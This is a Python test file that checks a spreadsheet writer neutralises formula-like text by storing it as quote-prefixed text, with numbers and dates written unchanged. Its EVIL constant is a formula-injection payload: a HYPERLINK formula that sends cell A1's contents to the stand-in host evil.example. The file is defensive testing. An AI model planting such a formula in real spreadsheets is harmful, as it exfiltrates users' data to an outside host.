"""The safe spreadsheet writer: formula-like text is written as text, numbers and dates as
they are, in normal and write-only workbooks alike."""

from __future__ import annotations

import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from metodset.core.spreadsheets import cell, workbook, xlsx_bytes, xlsx_response

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Петрова")'
RISKY = [EVIL, "+7 999 123-45-67", "-2", "@SUM(A1:A9)", "\tтаб", "\rвозврат"]
PLAIN = ["Петрова", "a=b", "1+1"]
NUMBERS_AND_DATES = [5, 2.5, dt.date(2026, 9, 1), dt.datetime(2026, 9, 1, 10, 30)]


def _read(book) -> list:
    sheet = load_workbook(io.BytesIO(xlsx_bytes(book))).worksheets[0]
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_formula_like_text_is_text_with_the_quote_prefix_and_intact(write_only):
    book = workbook(write_only=write_only)
    sheet = book.create_sheet("Лист") if write_only else book.active
    sheet.append(RISKY + PLAIN + NUMBERS_AND_DATES)
    sheet.append([cell(sheet, EVIL, bold=True), "без\x07звонка"])
    cells = _read(book)
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    assert values[: len(RISKY) + len(PLAIN)] == RISKY + PLAIN
    assert values[len(RISKY) + len(PLAIN) : -2] == [
        5,
        2.5,
        dt.datetime(2026, 9, 1),
        NUMBERS_AND_DATES[3],
    ]
    assert values[-2:] == [EVIL, "беззвонка"]
    assert [c.quotePrefix for c in cells[: len(RISKY)]] == [True] * len(RISKY)
    assert not any(c.quotePrefix for c in cells[len(RISKY) : len(RISKY) + len(PLAIN)])
    assert cells[-2].font.bold


def test_every_way_of_setting_a_cell_in_a_normal_sheet_is_safe():
    book = workbook()
    sheet = book.active
    sheet["A1"] = EVIL
    sheet.cell(2, 1, EVIL)
    sheet.cell(3, 1).value = EVIL  # a value set on the cell itself is caught when saving
    sheet.append({"A": EVIL})
    second = book.create_sheet("Второй")
    second.append([EVIL])
    cells = _read(book)
    assert [c.value for c in cells] == [EVIL] * 4
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_a_plain_openpyxl_workbook_is_refused():
    with pytest.raises(TypeError):
        xlsx_response(Workbook(), "plain.xlsx")
